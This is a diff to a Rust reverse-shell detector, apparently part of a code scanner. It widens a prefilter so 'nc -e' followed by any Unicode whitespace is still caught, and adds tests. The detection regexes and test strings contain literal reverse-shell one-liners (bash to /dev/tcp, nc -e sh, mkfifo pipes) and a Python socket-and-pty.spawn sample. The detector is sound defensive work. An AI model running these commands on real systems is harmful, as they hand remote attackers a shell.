@@ -30,12 +30,21 @@ static CONNECT: LazyLock<Regex> =
 static WIRE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
 });
-/// Words every [`ONE_LINER`] match contains (ASCII case-insensitively): `/dev/` (the
-/// `/dev/tcp` forms), `-e` and the whitespace `\s+` requires after it (`nc -e sh`, `nc -e
-/// cmd`; the gate only skips ASCII text, where `\s` is one of these six bytes, and a bare
-/// `-e` is in every `non-empty` and `--exclude`), `mkfifo`. Its gate ([`TextFile::may_contain_ci`]).
-static ONE_LINER_WORDS: LazyLock<AhoCorasick> =
-    LazyLock::new(|| super::pysrc::gate(&["/dev/", "-e ", "-e\t", "-e\n", "-e\r", "-e\x0b", "-e\x0c", "mkfifo"]));
+/// Words every [`ONE_LINER`] match contains (case-insensitively): `/dev/` (the `/dev/tcp`
+/// forms), `-e` and each character `\s+` can take after it (`nc -e sh`, `nc -e cmd`: the
+/// Unicode whitespace [`SPACES`]; a bare `-e` is in every `non-empty` and `--exclude`),
+/// `mkfifo`. Its gate ([`TextFile::may_contain_ci`]).
+static ONE_LINER_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    let dash_e: Vec<String> = SPACES.iter().map(|c| format!("-e{c}")).collect();
+    let words = ["/dev/", "mkfifo"].into_iter().chain(dash_e.iter().map(String::as_str));
+    super::pysrc::gate(&words.collect::<Vec<_>>())
+});
+/// The characters `\s` matches (Unicode `White_Space`; tested against the regex crate).
+const SPACES: [char; 25] = [
+    '\t', '\n', '\x0b', '\x0c', '\r', ' ', '\u{85}', '\u{a0}', '\u{1680}', '\u{2000}', '\u{2001}', '\u{2002}',
+    '\u{2003}', '\u{2004}', '\u{2005}', '\u{2006}', '\u{2007}', '\u{2008}', '\u{2009}', '\u{200a}', '\u{2028}',
+    '\u{2029}', '\u{202f}', '\u{205f}', '\u{3000}',
+];
 static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)").expect("one-liner")
 });
@@ -102,6 +111,14 @@ mod tests {
     const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";
 
     #[test]
+    fn spaces_are_what_the_regex_calls_whitespace() {
+        let space = Regex::new(r"^\s$").expect("space");
+        let all: Vec<char> =
+            (0..=0x10ffff_u32).filter_map(char::from_u32).filter(|c| space.is_match(&c.to_string())).collect();
+        assert_eq!(all, SPACES);
+    }
+
+    #[test]
     fn one_liner_gate_never_hides_a_match() {
         let cases = [
             ("bash to /dev/tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
@@ -112,6 +129,9 @@ mod tests {
             ("mkfifo", "mkfifo /tmp/f; cat /tmp/f", true),
             ("exec to /dev/tcp", "0<&196;exec 196<>/dev/tcp/h/80", true),
             ("a hyphen before an e is no one-liner", "non-empty --exclude re-enter", false),
+            ("nc -e before a no-break space", "é nc -e\u{a0}sh", true),
+            ("nc -e before an ideographic space", "nc -e\u{3000}cmd", true),
+            ("non-ASCII text without a word", "é non-empty\u{a0}x", false),
         ];
         for (case, text, matches) in cases {
             assert_eq!(ONE_LINER.is_match(text), matches, "{case}: the regex");
